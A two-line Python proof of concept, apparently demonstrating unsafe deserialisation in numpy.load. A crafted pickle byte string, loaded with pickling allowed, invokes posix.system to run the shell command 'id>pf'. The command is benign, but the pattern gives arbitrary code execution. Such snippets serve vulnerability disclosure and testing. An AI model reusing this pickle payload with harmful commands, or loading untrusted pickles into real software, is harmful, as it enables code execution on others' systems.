import io, numpy
numpy.load(io.BytesIO(b"\x80\x02cposix\nsystem\nX\x05\x00\x00\x00id>pf\x85R."), None, True)
